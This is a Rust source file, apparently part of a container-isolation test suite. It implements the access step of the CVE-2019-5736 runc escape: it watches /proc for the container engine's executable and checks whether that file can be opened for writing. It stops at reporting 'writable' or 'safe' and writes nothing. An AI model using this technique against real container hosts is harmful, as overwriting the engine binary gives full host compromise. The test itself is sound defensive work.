//! The attack of CVE-2019-5736: a process in a container lies in wait for the engine's own
//! program, which shows for a moment under `/proc/PID/exe` while the engine enters the
//! container, and tries to open it for writing.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::fs::{self, File, OpenOptions};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::Path;

use nix::libc;

use super::applet::{Applet, AppletError};
use super::signals::ready;

pub(super) const APPLETS: &[Applet] = &[Applet {
    name: "hunt",
    usage: "",
    run: hunt,
}];

/// Opens whatever foreign program shows in any process, until the file `/tmp/over` appears;
/// then tries to open each for writing. `safe FOUND` or `writable PATH`, one a line.
fn hunt(_: &[String]) -> Result<String, AppletError> {
    let own = fs::metadata("/proc/self/exe").map_err(AppletError::failed("stat myself"))?;
    ready()?;
    let mut prey: BTreeMap<(u64, u64), File> = BTreeMap::new();
    while !Path::new("/tmp/over").exists() {
        for entry in fs::read_dir("/proc")
            .map_err(AppletError::failed("ls /proc"))?
            .flatten()
        {
            let exe = entry.path().join("exe");
            // O_PATH keeps hold of the file after the process has gone on to another program.
            let Ok(file) = OpenOptions::new()
                .read(true)
                .custom_flags(libc::O_PATH)
                .open(&exe)
            else {
                continue;
            };
            let Ok(meta) = file.metadata() else { continue };
            if (meta.dev(), meta.ino()) != (own.dev(), own.ino()) {
                prey.entry((meta.dev(), meta.ino())).or_insert(file);
            }
        }
    }
    let mut text = format!("found {}\n", prey.len());
    for file in prey.values() {
        let path = format!("/proc/self/fd/{}", file.as_raw_fd());
        let opened = OpenOptions::new().write(true).open(&path);
        let name = fs::read_link(&path).unwrap_or_default();
        let _ = match opened {
            // Found writable is enough: nothing is written.
            Ok(_) => writeln!(text, "writable {}", name.display()),
            Err(error) => writeln!(text, "safe {} {error}", name.display()),
        };
    }
    Ok(text)
}
